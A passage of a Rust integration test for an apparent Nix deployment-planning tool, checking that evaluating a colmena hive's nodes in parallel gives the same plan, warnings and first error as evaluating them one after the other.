        sub.to_str().unwrap(),
    ]);
    assert_ne!(code, 0);
    assert!(err.contains("again to read its keys' text"), "{err}");
}

/// A hive's nodes are evaluated several at once (`--eval-jobs`), and the
/// result is what one after the other gives: the same plan, each node's
/// warnings in the nodes' order, and the first node that fails ends the
/// plan with its error (nothing said of the nodes after it).
#[test]
fn a_hives_nodes_evaluated_at_once_read_as_one_after_the_other() {
    let dir = tempfile::tempdir().unwrap();
    let names = ["n1", "n2", "n3", "n4", "n5", "n6"];
    let flake = |broken: &str| {
        let nodes: String = names
            .iter()
            .map(|n| {
                let host = if *n == broken {
                    format!("throw \"{n} is broken\"")
                } else {
                    format!("\"{n}.example.net\"")
                };
                format!(
                    "      {n} = {{ deployment.targetHost = {host}; system.activationScripts.snip-{n}.text = builtins.readFile ./secret-{n}; }};\n"
                )
            })
            .collect();
        format!("{{\n  outputs = {{ self }}: {{\n    colmena = {{\n{nodes}    }};\n  }};\n}}\n")
    };
    let systems: Vec<String> = names
        .iter()
        .map(|n| format!("{n}=/nix/store/qcpbj3406g87nifdqh66bikpv1q4z93h-nixos-system-{n}"))
        .collect();
    let run = |jobs: &str| {
        let d = dir.path().display().to_string();
        let mut args = vec![
            "plan",
            d.as_str(),
            "--offline",
            "--goal",
            "switch",
            "--format",
            "json",
            "--eval-jobs",
            jobs,
        ];
        for s in &systems {
            args.extend_from_slice(&["--node-system", s]);
        }
        common::nixplan_text(&args)
    };
    let said = |err: &str| -> Vec<String> {
        err.lines()
            .filter_map(|l| {
                l.strip_prefix("warning: the activation snippet snip-")
                    .and_then(|r| r.split_whitespace().next())
                    .map(String::from)
            })
            .collect()
    };

    std::fs::write(dir.path().join("flake.nix"), flake("")).unwrap();
    let (code1, one, err1) = run("1");
    assert_eq!(code1, 0, "{err1}");
    assert_eq!(said(&err1), names, "{err1}");
    for _ in 0..3 {
        let (code, many, err) = run("4");
        assert_eq!(code, 0, "{err}");
        assert_eq!(err, err1);
        assert_eq!(many, one);
    }

    std::fs::write(dir.path().join("flake.nix"), flake("n4")).unwrap();
    for jobs in ["1", "4"] {
        let (code, out, err) = run(jobs);
        assert_eq!(code, 1, "{err}");
        assert!(out.is_empty(), "{out}");
        assert_eq!(said(&err), ["n1", "n2", "n3"], "{err}");
        assert!(err.contains("n4 is broken"), "{err}");
        assert_eq!(
            err.lines().filter(|l| l.starts_with("error:")).count(),
            1,
            "{err}"
        );
    }
}
